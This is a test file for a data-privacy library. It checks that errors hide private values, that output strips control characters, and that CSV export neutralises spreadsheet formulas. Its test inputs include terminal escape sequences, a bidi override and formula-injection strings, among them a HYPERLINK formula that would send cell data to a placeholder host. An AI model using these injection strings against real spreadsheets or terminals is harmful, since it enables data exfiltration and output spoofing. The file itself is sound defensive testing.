"""What errors, terminals, figures and pages show: never a value of the data unasked, never a control character."""

from __future__ import annotations

import csv
import json
import pickle
import re
import xml.etree.ElementTree as ET

import duckdb
import numpy as np
import pandas as pd
import polars as pl
import pyarrow as pa
import pyarrow.csv as pa_csv
import pyarrow.parquet as pq
import pytest
from tests.command_line import run

import sfumato as sf
from sfumato import channels as c
from sfumato.assess.audit import audit_scheme
from sfumato.cli import console
from sfumato.cli.export import _no_formula
from sfumato.columns import examine
from sfumato.errors import DisclosureWarning, SfumatoError, show_values
from sfumato.learn.bayesnet import BayesianNetwork
from sfumato.printable import printable_lines

SECRET = "Smith-Nr-4711"
SCHEMA = sf.Schema({"sex": sf.Categorical(("F", "M")), "age": sf.Numeric(0, 100, bins=4)})
EVIL = "a\x1b[31m\x07b\u202ec\nd\x9be [red] $x_1$ :smile:"


def said(act) -> str:
    with pytest.raises(SfumatoError) as caught:
        act()
    assert SECRET not in repr(caught.value.__dict__)
    return str(caught.value)


def headerless(folder):
    path = folder / "raw.csv"
    path.write_text(f"{SECRET},44\nJones,45\n")
    return path


def late(folder):
    path = folder / "late.csv"
    path.write_text("z\n" + "1.5\n" * 4_000_000 + f"{SECRET}\n")
    return path


def late_stream(folder):
    path = folder / "stream.csv"
    path.write_text("sex,age\n" + "F,1\n" * 300_000 + f"F,{SECRET}\n")
    return pa_csv.open_csv(path)


@pytest.mark.parametrize(
    "act, words",
    [
        (
            lambda _: SCHEMA.encode({"sex": ["F", SECRET], "age": [1, 2]}),
            "column 'sex': 1 row holds a value that is not",
        ),
        (
            lambda _: SCHEMA.encode({"sex": ["F", "F"], "age": ["1", SECRET]}),
            "1 row holds text where a number is expected",
        ),
        (lambda _: SCHEMA.encode({"sex": ["F"], "age": [-4711]}), "1 row holds a number below the range"),
        (lambda _: SCHEMA.encode({"sex": ["F"] * 2, "age": [-4711, 471100]}), "2 rows hold a number outside the range"),
        (lambda f: SCHEMA.encode(headerless(f)), "none of its 2 columns is called so: is there a header?"),
        (lambda f: SCHEMA.encode(pd.read_csv(headerless(f))), "none of its 1 columns|none of its 2 columns"),
        (lambda f: sf.resample(pa.table({SECRET: [1.0, 2.0]}), "y"), "no column 'y'"),
        (lambda f: sf.density(headerless(f), "uniform:1", column="z"), "no column 'z'"),
        (lambda f: examine(headerless(f), drop=["z"]), "no column 'z'"),
        (lambda f: examine(pd.read_csv(headerless(f)), drop=["z"]), "no column 'z'"),
        (lambda f: BayesianNetwork.from_bif(headerless(f)), "line 1: expected network, variable or probability"),
        (lambda f: sf.Scheme.from_json(headerless(f).read_text()), "the scheme is not JSON"),
        (lambda f: sf.learn.read_baskets([[SECRET]], items=["milk"]), "transaction 1 holds an item"),
        (lambda f: c.laplace(1).randomize([1.0, SECRET]), "values must be numbers, got something else"),
        (lambda f: c.symmetric(4, 0.3).randomize([0, 4711]), "1 of 2 do not"),
        (lambda f: sf.attacks.spectral([[SECRET]], [[1.0]], 1.0), "must be a table of finite numbers"),
        (lambda f: sf.resample(np.eye(3), [SECRET, "b", "b"]), "a class has one row"),
        (
            lambda f: sf.resample(np.eye(4), [SECRET, SECRET + "x", "b", "b"], max_risk=0.6),
            "a class (one of 2) has one",
        ),
        (lambda f: sf.Schema({"d": sf.Date("2020", "2024", by="year")}).encode({"d": [[SECRET]]}), "is no date"),
        (
            lambda f: sf.Schema({"n": sf.Categorical((1, 2))}).encode({"n": [10**40 + 4711]}),
            "whole numbers beyond 64 bits",
        ),
        (
            lambda f: SCHEMA.encode(pl.LazyFrame({"sex": ["F"], "age": [SECRET]}).cast({"age": pl.Int8})),
            "cannot be read",
        ),
        (lambda f: SCHEMA.encode(duckdb.sql(f"select 'F' as sex, '{SECRET}'::int as age")), "cannot be read"),
        (lambda f: SCHEMA.encode(late_stream(f)), "cannot be read: column 2: a field cannot be read as int64"),
    ],
)
def test_errors_name_column_kind_and_count_but_no_value(tmp_path, act, words) -> None:
    line = said(lambda: act(tmp_path))
    assert SECRET not in line and "4711" not in line
    assert any(word in line for word in words.split("|"))


def test_a_late_failure_to_convert_does_not_quote_the_field(tmp_path) -> None:
    line = said(lambda: sf.density(late(tmp_path), "uniform:1", column="z"))
    assert SECRET not in line and "4711" not in line


def test_values_are_shown_when_asked() -> None:
    with show_values(), pytest.raises(SfumatoError, match=SECRET) as caught:
        SCHEMA.encode({"sex": [SECRET], "age": [1]})
    assert caught.value.value == SECRET
    assert pickle.loads(pickle.dumps(caught.value)).column == "sex"
    assert SECRET not in said(lambda: SCHEMA.encode({"sex": [SECRET], "age": [1]}))


def test_the_command_line_shows_values_only_when_asked(tmp_path) -> None:
    raw = tmp_path / "raw.csv"
    raw.write_text(f"sex,age\nF,1\n{SECRET},2\n")
    (tmp_path / "s.json").write_text(sf.Scheme.for_gamma(SCHEMA, 3).to_json())
    line = f"randomize {raw} {tmp_path}/r.parquet --scheme {tmp_path}/s.json"
    quiet, loud, after = run(line), run(f"{line} --show-values"), run(line)
    assert quiet.code == loud.code == after.code == 1
    assert SECRET in loud.error
    assert SECRET not in quiet.error and SECRET not in after.error
    assert "column 'sex': 1 row holds a value" in quiet.error


def test_every_command_takes_show_values() -> None:
    assert "--show-values" in run("learn tree --help").out
    assert "--show-values" in run("resample --help").out


def test_control_characters_never_reach_a_terminal(tmp_path, monkeypatch) -> None:
    values = ("x", EVIL)
    schema = sf.Schema({EVIL: sf.Categorical(values), "b": sf.Categorical(("u", "v"))})
    table = {EVIL: list(values) * 100, "b": ["u", "v"] * 100}
    release = sf.randomize(table, sf.Scheme(schema, {n: c.symmetric(2, gamma=3) for n in schema}))
    release.save(tmp_path / "r.parquet")
    (tmp_path / "s.json").write_text(release.scheme.to_json())
    raw = tmp_path / "raw.csv"
    pd.DataFrame({EVIL: [EVIL + "?"], "b": ["u"]}).to_csv(raw, index=False)
    quoted = '"' + EVIL.replace('"', '""') + '"'
    import shlex

    for line in (
        f"inspect {tmp_path}/r.parquet --rows 3",
        f"estimate {tmp_path}/r.parquet --columns {shlex.quote(quoted)} --method moment",
        f"estimate {tmp_path}/r.parquet --columns {shlex.quote(quoted)} --method moment --json",
        f"assess {tmp_path}/s.json --n 100",
        f"learn tree {tmp_path}/r.parquet --target b",
        f"learn bayesnet {tmp_path}/r.parquet",
        f"learn rules {tmp_path}/r.parquet --min-support .01",
        f"randomize {raw} {tmp_path}/q.parquet --scheme {tmp_path}/s.json --show-values",
        f"estimate {tmp_path}/r.parquet --columns {shlex.quote(quoted + ',nothing')}",
        f"inspect {shlex.quote(EVIL)}",
    ):
        ran = run(line)
        shown = (ran.out + ran.error).replace("\n", "")
        assert shown.isprintable(), (line, shown)
        assert ran.code in (0, 1, 2), ran
        if "--json" in line:
            json.loads(ran.out)


def test_brackets_and_colons_of_names_are_shown_as_they_are(capsys) -> None:
    said = run("estimate none.parquet --columns '[red]a[/red] :smile:'")
    assert "none.parquet" in said.error
    console.say("[red]a[/red] :smile:")
    console.table(["[b]h[/b]"], [["[red]a :smile:"]], title="[i]t")
    out = capsys.readouterr().out
    for text in ("[red]a[/red] :smile:", "[b]h[/b]", "[red]a :smile:", "[i]t"):
        assert text in out


def test_figures_show_dollars_and_control_characters_as_text(tmp_path) -> None:
    name = "cost $\\frac{$ \x01\u202e"
    schema = sf.Schema({name: sf.Categorical(("$5_a$", "_b", "\x07")), "y": sf.Categorical(("$u$", "_v"))})
    rng = np.random.default_rng(1)
    table = {n: np.array(schema[n].labels)[rng.integers(0, schema[n].size, 300)] for n in schema}
    ev = sf.evidence(table, schema)
    ev.counts([name]).plot(tmp_path / "counts.svg")
    sf.learn.DecisionTree().fit(ev, target="y").plot(tmp_path / "tree.svg")
    sf.learn.NaiveBayes().fit(ev, target="y").plot(tmp_path / "bayes.svg")
    BayesianNetwork({name: [], "y": [name]}).fit(ev).plot(tmp_path / "net.svg", cpts=True)
    sf.learn.AssociationRules(min_support=0.01, min_confidence=0.01).fit(ev).plot(tmp_path / "rules.svg")
    for file in tmp_path.glob("*.svg"):
        text = file.read_text()
        ET.fromstring(text)
        assert "\x01" not in text and "\u202e" not in text and "\x07" not in text, file


def test_pages_carry_a_policy_and_no_control_characters(tmp_path) -> None:
    schema = sf.Schema({EVIL: sf.Categorical(("<b>x</b>", EVIL))})
    page = sf.report(sf.Scheme.for_gamma(schema, 3), n=100).html()
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert page == printable_lines(page)
    assert "<b>x</b>" not in page


def test_reprs_are_printable() -> None:
    schema = sf.Schema({EVIL: sf.Categorical(("x", EVIL))})
    scheme = sf.Scheme.for_gamma(schema, 3)
    release = sf.randomize({EVIL: ["x", EVIL] * 50}, scheme)
    for text in (repr(scheme), repr(release), repr(schema), str(sf.evidence(release, method="mle").counts([EVIL]))):
        assert text.replace("\n", "").isprintable()
    assert all(str(found).isprintable() for found in audit_scheme(scheme, trials=200))


def test_a_message_is_one_line_of_bounded_length() -> None:
    error = SfumatoError("x\n" * 100_000)
    assert len(str(error)) < 1100 and "\n" not in str(error)
    with pytest.warns(sf.errors.SfumatoWarning) as found:
        import warnings

        warnings.warn("a\x1b[2J\nb", sf.errors.DisclosureWarning, stacklevel=1)
    assert str(found[0].message) == "a\\x1b[2J\\nb"


def test_damaged_parquet_is_one_line_on_the_command_line(tmp_path) -> None:
    path = tmp_path / "r.parquet"
    pq.write_table(pa.table({"a": [1, 2, 3]}), path)
    whole = path.read_bytes()
    for piece in (b"", b"PAR1", whole[:-20], whole[:20] + b"\0" * 50 + whole[70:], b"\xff" * 200):
        path.write_bytes(piece)
        for line in (f"inspect {path}", f"estimate {path} --columns a", f"density {path} --column a --noise uniform:1"):
            ran = run(line)
            assert ran.code in (1, 2) and ran.error.count("\n") <= 2 and "Traceback" not in ran.error, ran


@pytest.mark.filterwarnings("ignore:PySpark does not yet fully support pandas:FutureWarning")
def test_a_value_that_a_spark_worker_refuses_is_one_line(spark_session) -> None:
    frame = spark_session.createDataFrame([("1", "Schmidt"), ("2", "F")], ["id", "sex"])
    scheme = sf.Scheme(sf.Schema({"sex": sf.Categorical(("F", "M"))}), {"sex": sf.channels.binary(0.25, 0.25)})
    with pytest.raises(SfumatoError, match="^column 'sex': 1 row holds a value that is not in its domain") as caught:
        sf.randomize(frame, scheme, id="id")
    assert "Schmidt" not in str(caught.value)
    query = frame.selectExpr(
        "id", "case when raise_error(sex) is null then 'F' end as sex"
    )  # fails when it is computed
    with pytest.raises(SfumatoError, match="^Spark cannot compute the table") as caught:
        sf.randomize(query, scheme, id="id")
    assert "Schmidt" not in str(caught.value)


def test_a_spreadsheet_computes_nothing_that_others_wrote(tmp_path) -> None:
    evil = ('=HYPERLINK("http://x/"&A1)', "+1+1", "-2+3", "@SUM(A1)", " =1", "-5", "a=b")
    schema = sf.Schema({"=name": sf.Categorical(evil), "-n": sf.Categorical((-1, 2))})
    rows = {"=name": evil, "-n": [-1, 2] * 3 + [2], "id": [f"={i}" for i in range(7)]}
    with pytest.warns(DisclosureWarning, match="ids in 'id'"):
        release = sf.randomize(rows, sf.Scheme.identity(schema), id="id", clear_ids=True)
    release.save(tmp_path / "r.parquet")
    assert run(f"export {tmp_path}/r.parquet {tmp_path}/words.csv").code == 0
    with (tmp_path / "words.csv").open(newline="") as file:
        names, *found = csv.reader(file)
    assert names == ["'=name", "'-n", "id"]
    assert {row[0] for row in found} == {*(f"'{text}" for text in evil[:5]), "-5", "a=b"}
    assert {row[1] for row in found} == {"-1", "2"} and all(row[2].startswith("'=") for row in found)


@pytest.mark.parametrize(
    "text",
    [
        "a;=1+1",
        "a; @SUM(A1)",
        "a;+1+1",
        "a; -2+3",
        "a;\u200e@SUM(A1)",
        'a;"=1+1"',
        "a\n=1+1",
        "a\r\n\t-2+3",
        "\x00=1",
        "\ufeff=1",
        "\u200b+1+1",
        "\u00ad=1",
        "\u180e=1",
        "\u2003=1",
        "\u200d\u200e=1",
        "\ufe0f=1",
    ],
)
def test_no_formula_hides_behind_a_semicolon_or_an_unseen_sign(text: str) -> None:
    # where numbers have decimal commas, spreadsheets cut text files at semicolons
    for piece in re.split("[;\r\n\t]", _no_formula(text)):
        assert piece.strip(' "\x00\ufeff\u00ad\u180e\u2003\u200b\u200d\u200e\ufe0f')[:1] not in tuple("=+-@")
    assert _no_formula(text).replace("'", "") == text
    for plain in ("a; b;-1", "a; -1.5", "-1", "a=b\nc+d", "Jean-Luc"):
        assert _no_formula(plain) == plain


def test_warnings_of_several_columns_are_all_shown(tmp_path) -> None:
    schema = sf.Schema({name: sf.Numeric(0, 10, bins=2, clip=True) for name in ("q1", "q2")})
    (tmp_path / "s.json").write_text(sf.Scheme.for_gamma(schema, 3).to_json())
    (tmp_path / "t.csv").write_text("q1,q2\n99,99\n1,1\n")
    said = run(f"randomize {tmp_path}/t.csv {tmp_path}/r.parquet --scheme {tmp_path}/s.json").error
    assert "column 'q1': 1 value" in said and "column 'q2': 1 value" in said


def test_an_unforeseen_failure_names_no_value(tmp_path, monkeypatch) -> None:
    def fail(*_, **__):
        raise KeyError(SECRET)

    monkeypatch.setattr("sfumato.cli.inspect._describe", fail)
    (tmp_path / "s.json").write_text(sf.Scheme.for_gamma(SCHEMA, 3).to_json())
    quiet, loud = run(f"inspect {tmp_path}/s.json"), run(f"inspect {tmp_path}/s.json --show-values")
    assert quiet.code == loud.code == 70 and "KeyError" in quiet.error
    assert SECRET not in quiet.error and SECRET in loud.error
